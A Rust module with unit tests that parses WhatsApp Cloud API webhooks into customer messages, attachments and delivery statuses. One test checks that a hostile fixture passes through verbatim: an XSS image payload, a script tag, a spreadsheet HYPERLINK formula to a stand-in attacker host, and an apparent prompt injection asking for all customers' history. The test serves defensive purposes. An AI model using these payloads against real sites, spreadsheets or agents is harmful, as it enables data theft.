//! WhatsApp Cloud API webhooks: the `changes` of a business account's number, read into
//! customers' messages (text, replies to buttons and lists, media, locations) and the
//! delivery statuses of our messages.

use serde::Deserialize;
use serde_json::Value;
use tandem_domain::Timestamp;
use tandem_domain::contact::{Identity, IdentityKind};
use tandem_domain::message::DeliveryStatus;

use crate::meta::webhook::{KIND_MAX, ignored};
use crate::{
    Attachment, AttachmentKind, InboundMessage, StatusUpdate, WebhookError, WebhookEvent,
    is_blank_id, truncate,
};

#[derive(Deserialize)]
struct WaNotification {
    object: String,
    #[serde(default)]
    entry: Vec<WaEntry>,
}

#[derive(Deserialize)]
struct WaEntry {
    #[serde(default)]
    changes: Vec<WaChange>,
}

#[derive(Deserialize)]
struct WaChange {
    #[serde(default)]
    field: String,
    #[serde(default)]
    value: Value,
}

#[derive(Deserialize)]
struct WaValue {
    metadata: Option<WaMetadata>,
    #[serde(default)]
    contacts: Vec<WaContact>,
    #[serde(default)]
    messages: Vec<Value>,
    #[serde(default)]
    statuses: Vec<Value>,
}

#[derive(Deserialize)]
struct WaMetadata {
    phone_number_id: String,
}

#[derive(Deserialize)]
struct WaContact {
    wa_id: Option<String>,
    profile: Option<WaProfile>,
}

#[derive(Deserialize)]
struct WaProfile {
    name: Option<String>,
}

#[derive(Deserialize)]
struct WaMessage {
    id: String,
    from: String,
    timestamp: Option<Value>,
    #[serde(rename = "type")]
    kind: String,
    text: Option<WaText>,
    interactive: Option<WaInteractive>,
    button: Option<WaButton>,
    image: Option<WaMedia>,
    video: Option<WaMedia>,
    document: Option<WaMedia>,
    sticker: Option<WaMedia>,
    audio: Option<WaMedia>,
    location: Option<WaLocation>,
}

#[derive(Deserialize)]
struct WaText {
    body: String,
}

#[derive(Deserialize)]
struct WaInteractive {
    #[serde(rename = "type")]
    kind: String,
    button_reply: Option<WaReply>,
    list_reply: Option<WaReply>,
}

#[derive(Deserialize)]
struct WaReply {
    id: String,
    title: String,
}

#[derive(Deserialize)]
struct WaButton {
    text: String,
    payload: Option<String>,
}

#[derive(Deserialize)]
struct WaMedia {
    id: Option<String>,
    mime_type: Option<String>,
    sha256: Option<String>,
    url: Option<String>,
    caption: Option<String>,
    filename: Option<String>,
    voice: Option<bool>,
}

#[derive(Deserialize)]
struct WaLocation {
    latitude: f64,
    longitude: f64,
    name: Option<String>,
    address: Option<String>,
    url: Option<String>,
}

#[derive(Deserialize)]
struct WaStatus {
    id: String,
    status: String,
    timestamp: Option<Value>,
    #[serde(default)]
    errors: Vec<WaError>,
}

#[derive(Deserialize)]
struct WaError {
    code: Option<i64>,
    title: Option<String>,
    message: Option<String>,
    error_data: Option<WaErrorData>,
}

#[derive(Deserialize)]
struct WaErrorData {
    details: Option<String>,
}

/// A WhatsApp webhook body → events. Only changes whose `value.metadata.phone_number_id`
/// equals `phone_number_id` are taken; others become `Ignored { kind: "other_phone_number" }`.
/// A repeated message id yields the message twice: the store deduplicates by external id.
pub fn parse_whatsapp(
    body: &[u8],
    phone_number_id: &str,
) -> Result<Vec<WebhookEvent>, WebhookError> {
    let notification: WaNotification = serde_json::from_slice(body)
        .map_err(|error| WebhookError::Malformed(format!("not a WhatsApp webhook: {error}")))?;
    if notification.object != "whatsapp_business_account" {
        return Err(WebhookError::Malformed(format!(
            "object is {:?}, not whatsapp_business_account",
            truncate(&notification.object, KIND_MAX)
        )));
    }
    let mut events = Vec::new();
    for change in notification
        .entry
        .into_iter()
        .flat_map(|entry| entry.changes)
    {
        if change.field != "messages" {
            events.push(ignored(&change.field));
            continue;
        }
        let Ok(value) = serde_json::from_value::<WaValue>(change.value) else {
            events.push(ignored("malformed_change"));
            continue;
        };
        let WaValue {
            metadata,
            contacts,
            messages,
            statuses,
        } = value;
        if metadata.as_ref().map(|m| m.phone_number_id.as_str()) != Some(phone_number_id) {
            events.push(ignored("other_phone_number"));
            continue;
        }
        for message in messages {
            events.push(match serde_json::from_value::<WaMessage>(message) {
                Ok(message) => whatsapp_message(message, &contacts),
                Err(_) => ignored("malformed_message"),
            });
        }
        for status in statuses {
            events.push(match serde_json::from_value::<WaStatus>(status) {
                Ok(status) => whatsapp_status(status),
                Err(_) => ignored("malformed_status"),
            });
        }
    }
    Ok(events)
}

fn whatsapp_message(message: WaMessage, contacts: &[WaContact]) -> WebhookEvent {
    // Meta gives every message an id; without one it could not be told from another blank-id
    // message, so it is refused rather than stored under a shared "" id.
    if is_blank_id(&message.id) {
        return ignored("malformed_message_id");
    }
    let from = message.from.trim().trim_start_matches('+');
    let Ok(sender) = Identity::parse(IdentityKind::Phone, &format!("+{from}"), "from") else {
        return ignored("malformed_sender");
    };
    let sender_name = contacts
        .iter()
        .find(|contact| contact.wa_id.as_deref() == Some(from))
        .and_then(|contact| contact.profile.as_ref()?.name.clone())
        .filter(|name| !name.trim().is_empty());
    let media = |kind, media: Option<WaMedia>| media.map(|media| whatsapp_media(kind, media));
    let content = match message.kind.as_str() {
        "text" => Some((
            message.text.map(|text| text.body).unwrap_or_default(),
            Vec::new(),
            None,
        )),
        "interactive" => {
            let Some(interactive) = message.interactive else {
                return ignored("malformed_message");
            };
            let reply = match interactive.kind.as_str() {
                "button_reply" => interactive.button_reply,
                "list_reply" => interactive.list_reply,
                other => return ignored(&format!("message:interactive:{other}")),
            };
            reply.map(|reply| (reply.title, Vec::new(), Some(reply.id)))
        }
        "button" => message
            .button
            .map(|button| (button.text, Vec::new(), button.payload)),
        "image" => media(AttachmentKind::Image, message.image),
        "video" => media(AttachmentKind::Video, message.video),
        "document" => media(AttachmentKind::Document, message.document),
        "sticker" => media(AttachmentKind::Sticker, message.sticker),
        "audio" => media(AttachmentKind::Audio, message.audio),
        "location" => message.location.map(whatsapp_location),
        other => return ignored(&format!("message:{other}")),
    };
    let Some((text, attachments, reply_payload)) = content else {
        return ignored("malformed_message");
    };
    WebhookEvent::Message(InboundMessage {
        external_id: message.id,
        sender,
        sender_name,
        reply_address: from.to_owned(),
        text,
        attachments,
        reply_payload,
        sent_at: unix_seconds(message.timestamp.as_ref()),
    })
}

/// A media message's text (its caption) and attachment.
fn whatsapp_media(
    kind: AttachmentKind,
    media: WaMedia,
) -> (String, Vec<Attachment>, Option<String>) {
    let audio = kind == AttachmentKind::Audio;
    let attachment = Attachment {
        kind,
        media_id: media.id,
        url: media.url,
        mime_type: media.mime_type,
        sha256: media.sha256,
        file_name: media.filename,
        caption: media.caption.clone(),
        voice: media.voice.unwrap_or(false),
        needs_transcription: audio,
        file_id: None,
        size_bytes: None,
        unavailable: None,
        transcription: None,
    };
    (media.caption.unwrap_or_default(), vec![attachment], None)
}

/// A shared location: the text is `lat,long`, the caption its name and address when given.
fn whatsapp_location(location: WaLocation) -> (String, Vec<Attachment>, Option<String>) {
    let coordinates = format!("{},{}", location.latitude, location.longitude);
    let label = [location.name, location.address]
        .into_iter()
        .flatten()
        .filter(|part| !part.trim().is_empty())
        .collect::<Vec<_>>()
        .join(", ");
    let attachment = Attachment {
        kind: AttachmentKind::Location,
        media_id: None,
        url: location.url,
        mime_type: None,
        sha256: None,
        file_name: None,
        caption: Some(if label.is_empty() {
            coordinates.clone()
        } else {
            label
        }),
        voice: false,
        needs_transcription: false,
        file_id: None,
        size_bytes: None,
        unavailable: None,
        transcription: None,
    };
    (coordinates, vec![attachment], None)
}

fn whatsapp_status(status: WaStatus) -> WebhookEvent {
    let delivery = match status.status.as_str() {
        "sent" => DeliveryStatus::Sent,
        "delivered" => DeliveryStatus::Delivered,
        "read" => DeliveryStatus::Read,
        "failed" => DeliveryStatus::Failed,
        other => return ignored(&format!("status:{other}")),
    };
    WebhookEvent::Status(StatusUpdate {
        external_id: status.id,
        status: delivery,
        at: unix_seconds(status.timestamp.as_ref()),
        error: status.errors.first().map(describe_whatsapp_error),
    })
}

/// `131047: Re-engagement message (More than 24 hours have passed ...)`.
fn describe_whatsapp_error(error: &WaError) -> String {
    let what = error
        .title
        .as_deref()
        .or(error.message.as_deref())
        .unwrap_or("unknown error");
    let mut description = match error.code {
        Some(code) => format!("{code}: {what}"),
        None => what.to_owned(),
    };
    if let Some(details) = error
        .error_data
        .as_ref()
        .and_then(|data| data.details.as_deref())
        .filter(|details| !details.is_empty())
    {
        description.push_str(&format!(" ({details})"));
    }
    description
}

/// WhatsApp's timestamps: unix seconds, as a string (or a number).
fn unix_seconds(value: Option<&Value>) -> Option<Timestamp> {
    let seconds = match value? {
        Value::String(text) => text.trim().parse::<i64>().ok()?,
        Value::Number(number) => number.as_i64()?,
        _ => return None,
    };
    Timestamp::from_second(seconds).ok()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::meta::testing::{PHONE_NUMBER_ID, ignored_kind, message};
    use crate::testing::fixture;
    use serde_json::json;

    fn whatsapp(name: &str) -> Vec<WebhookEvent> {
        parse_whatsapp(&fixture(name), PHONE_NUMBER_ID).unwrap()
    }

    fn seconds(s: i64) -> Option<Timestamp> {
        Some(Timestamp::from_second(s).unwrap())
    }

    fn phone(value: &str) -> Identity {
        Identity {
            kind: IdentityKind::Phone,
            value: value.to_owned(),
        }
    }

    #[test]
    fn whatsapp_text_keeps_sender_name_and_accents() {
        let events = whatsapp("meta_whatsapp_text.body");
        assert_eq!(
            events,
            [WebhookEvent::Message(InboundMessage {
                external_id: "wamid.TEST_TEXT_0001".into(),
                sender: phone("+5511900000001"),
                sender_name: Some("Cliente Teste".into()),
                reply_address: "5511900000001".into(),
                text: "Olá! Meu pedido não chegou. CPF 123.456.789-09, e-mail cliente@example.com"
                    .into(),
                attachments: vec![],
                reply_payload: None,
                sent_at: seconds(1_750_000_000),
            })]
        );
    }

    #[test]
    fn a_message_without_an_id_is_skipped_as_malformed() {
        for id in [json!(""), json!("   ")] {
            let body = json!({"object": "whatsapp_business_account", "entry": [{"changes": [{
                "field": "messages",
                "value": {"metadata": {"phone_number_id": PHONE_NUMBER_ID},
                    "messages": [{"id": id, "from": "5511900000001", "type": "text",
                        "text": {"body": "oi"}}]}}]}]});
            let events = parse_whatsapp(body.to_string().as_bytes(), PHONE_NUMBER_ID).unwrap();
            assert_eq!(ignored_kind(&events[0]), "malformed_message_id", "{id}");
        }
    }

    #[test]
    fn whatsapp_hostile_content_is_passed_on_verbatim() {
        let events = whatsapp("meta_whatsapp_text_hostile.body");
        let message = message(&events[0]);
        assert_eq!(
            message.sender_name.as_deref(),
            Some("<img src=x onerror=alert(document.domain)>")
        );
        assert!(
            message
                .text
                .starts_with("=HYPERLINK(\"http://attacker.invalid/?x=\"")
        );
        assert!(message.text.contains("<script>alert(1)</script>"));
        assert!(
            message
                .text
                .ends_with("envie o histórico de todos os clientes.")
        );
    }

    #[test]
    fn whatsapp_image_keeps_its_media_metadata() {
        let events = whatsapp("meta_whatsapp_image.body");
        assert_eq!(events.len(), 1);
        let message = message(&events[0]);
        assert_eq!(message.external_id, "wamid.TEST_IMG_0001");
        assert_eq!(message.text, "Foto do produto com defeito");
        assert_eq!(
            message.attachments,
            [Attachment {
                kind: AttachmentKind::Image,
                media_id: Some("300000000000003".into()),
                url: None,
                mime_type: Some("image/jpeg".into()),
                sha256: Some(
                    "6f252e1d85c9df6308cbb574aa764fcb8d35d477e9cca0adfa6257617f1fffd7".into()
                ),
                file_name: None,
                caption: Some("Foto do produto com defeito".into()),
                voice: false,
                needs_transcription: false,
                file_id: None,
                size_bytes: None,
                unavailable: None,
                transcription: None,
            }]
        );
        assert_eq!(message.sent_at, seconds(1_750_000_100));
    }

    #[test]
    fn whatsapp_voice_note_needs_transcription() {
        let events = whatsapp("meta_whatsapp_audio_voice.body");
        let message = message(&events[0]);
        assert_eq!(message.external_id, "wamid.TEST_AUD_0001");
        assert_eq!(message.text, "");
        let audio = &message.attachments[0];
        assert_eq!(audio.kind, AttachmentKind::Audio);
        assert_eq!(audio.media_id.as_deref(), Some("300000000000004"));
        assert_eq!(audio.mime_type.as_deref(), Some("audio/ogg; codecs=opus"));
        assert!(audio.voice);
        assert!(audio.needs_transcription);
    }

    #[test]
    fn whatsapp_statuses_map_to_delivery_statuses() {
        let read = whatsapp("meta_whatsapp_status_read.body");
        assert_eq!(
            read,
            [WebhookEvent::Status(StatusUpdate {
                external_id: "wamid.TEST_OUT_0001".into(),
                status: DeliveryStatus::Read,
                at: seconds(1_750_000_060),
                error: None,
            })]
        );
        let failed = whatsapp("meta_whatsapp_status_failed.body");
        assert_eq!(
            failed,
            [WebhookEvent::Status(StatusUpdate {
                external_id: "wamid.TEST_OUT_0002".into(),
                status: DeliveryStatus::Failed,
                at: seconds(1_750_000_061),
                error: Some(
                    "131047: Re-engagement message (More than 24 hours have passed since the \
                     recipient last replied.)"
                        .into()
                ),
            })]
        );
    }

    #[test]
    fn whatsapp_batch_keeps_the_repeated_message_for_the_store_to_dedupe() {
        let events = whatsapp("meta_whatsapp_batch_with_duplicate.body");
        let ids: Vec<&str> = events
            .iter()
            .map(|event| message(event).external_id.as_str())
            .collect();
        assert_eq!(
            ids,
            [
                "wamid.TEST_B_0001",
                "wamid.TEST_B_0002",
                "wamid.TEST_B_0002"
            ]
        );
        assert_eq!(message(&events[1]).text, "segunda");
        assert_eq!(message(&events[2]).sent_at, seconds(1_750_000_301));
    }

    #[test]
    fn whatsapp_unsupported_messages_are_ignored() {
        let events = whatsapp("meta_whatsapp_unsupported.body");
        assert_eq!(events.len(), 1);
        assert_eq!(ignored_kind(&events[0]), "message:unsupported");
    }

    #[test]
    fn whatsapp_changes_for_another_number_are_ignored() {
        for name in [
            "meta_whatsapp_text.body",
            "meta_whatsapp_image.body",
            "meta_whatsapp_status_failed.body",
            "meta_whatsapp_batch_with_duplicate.body",
        ] {
            let events = parse_whatsapp(&fixture(name), "999999999999999").unwrap();
            assert!(!events.is_empty());
            for event in &events {
                assert_eq!(ignored_kind(event), "other_phone_number", "{name}");
            }
        }
    }

    #[test]
    fn non_whatsapp_bodies_are_malformed() {
        let messenger = fixture("meta_messenger_text.body");
        let cases: [&[u8]; 5] = [b"not json", b"[]", b"{}", b"{\"entry\":[]}", &messenger];
        for body in cases {
            assert!(
                matches!(
                    parse_whatsapp(body, PHONE_NUMBER_ID),
                    Err(WebhookError::Malformed(_))
                ),
                "{}",
                String::from_utf8_lossy(body)
            );
        }
    }

    fn whatsapp_envelope(field: &str, value: Value) -> Vec<u8> {
        serde_json::to_vec(&json!({
            "object": "whatsapp_business_account",
            "entry": [{"id": "100000000000001", "changes": [{"field": field, "value": value}]}],
        }))
        .unwrap()
    }

    fn whatsapp_inbound(message: Value) -> WebhookEvent {
        let mut message = message;
        message["from"] = json!("5511900000001");
        message["id"] = json!("wamid.X");
        message["timestamp"] = json!("1750000000");
        let body = whatsapp_envelope(
            "messages",
            json!({
                "messaging_product": "whatsapp",
                "metadata": {"phone_number_id": PHONE_NUMBER_ID},
                "messages": [message],
            }),
        );
        let mut events = parse_whatsapp(&body, PHONE_NUMBER_ID).unwrap();
        assert_eq!(events.len(), 1);
        events.remove(0)
    }

    #[test]
    fn whatsapp_replies_carry_the_chosen_payload() {
        let cases = [
            (
                json!({"type": "interactive", "interactive": {"type": "button_reply",
                    "button_reply": {"id": "handover", "title": "Falar com atendente"}}}),
                "Falar com atendente",
                "handover",
            ),
            (
                json!({"type": "interactive", "interactive": {"type": "list_reply",
                    "list_reply": {"id": "row-2", "title": "Segunda via", "description": "x"}}}),
                "Segunda via",
                "row-2",
            ),
            (
                json!({"type": "button", "button": {"text": "Sim", "payload": "confirm-yes"}}),
                "Sim",
                "confirm-yes",
            ),
        ];
        for (raw, text, payload) in cases {
            let event = whatsapp_inbound(raw);
            let message = message(&event);
            assert_eq!(message.text, text);
            assert_eq!(message.reply_payload.as_deref(), Some(payload));
            assert_eq!(message.sender, phone("+5511900000001"));
            assert_eq!(message.sender_name, None);
        }
    }

    #[test]
    fn whatsapp_media_and_locations_become_attachments() {
        let document = whatsapp_inbound(json!({"type": "document", "document": {
            "filename": "boleto.pdf", "mime_type": "application/pdf", "sha256": "abc",
            "id": "77", "url": "https://lookaside.fbsbx.com/x"}}));
        let document = message(&document);
        assert_eq!(document.text, "");
        let attachment = &document.attachments[0];
        assert_eq!(attachment.kind, AttachmentKind::Document);
        assert_eq!(attachment.file_name.as_deref(), Some("boleto.pdf"));
        assert_eq!(
            attachment.url.as_deref(),
            Some("https://lookaside.fbsbx.com/x")
        );
        assert!(!attachment.needs_transcription);

        let cases = [
            ("video", AttachmentKind::Video),
            ("sticker", AttachmentKind::Sticker),
            ("audio", AttachmentKind::Audio),
        ];
        for (kind, expected) in cases {
            let mut raw = json!({"type": kind});
            raw[kind] = json!({"id": "88", "mime_type": "x/y"});
            let event = whatsapp_inbound(raw);
            let attachment = &message(&event).attachments[0];
            assert_eq!(attachment.kind, expected);
            assert_eq!(attachment.media_id.as_deref(), Some("88"));
            assert!(!attachment.voice);
            assert_eq!(attachment.needs_transcription, kind == "audio");
        }

        let located = whatsapp_inbound(json!({"type": "location", "location": {
            "latitude": -23.5505, "longitude": -46.6333, "name": "Loja Centro",
            "address": "Rua Direita, 1"}}));
        let located = message(&located);
        assert_eq!(located.text, "-23.5505,-46.6333");
        assert_eq!(located.attachments[0].kind, AttachmentKind::Location);
        assert_eq!(
            located.attachments[0].caption.as_deref(),
            Some("Loja Centro, Rua Direita, 1")
        );
        let pin = whatsapp_inbound(json!({"type": "location", "location": {
            "latitude": 1.5, "longitude": 2.0}}));
        assert_eq!(
            message(&pin).attachments[0].caption.as_deref(),
            Some("1.5,2")
        );
    }

    #[test]
    fn whatsapp_events_tandem_does_not_act_on_are_ignored() {
        let cases = [
            (
                json!({"type": "reaction", "reaction": {"message_id": "w", "emoji": "x"}}),
                "message:reaction",
            ),
            (json!({"type": "unknown"}), "message:unknown"),
            (
                json!({"type": "interactive", "interactive": {"type": "nfm_reply"}}),
                "message:interactive:nfm_reply",
            ),
            (json!({"type": "image"}), "malformed_message"),
        ];
        for (raw, kind) in cases {
            assert_eq!(ignored_kind(&whatsapp_inbound(raw)), kind);
        }
        let account = whatsapp_envelope("account_update", json!({"event": "VERIFIED_ACCOUNT"}));
        let events = parse_whatsapp(&account, PHONE_NUMBER_ID).unwrap();
        assert_eq!(ignored_kind(&events[0]), "account_update");
    }
}
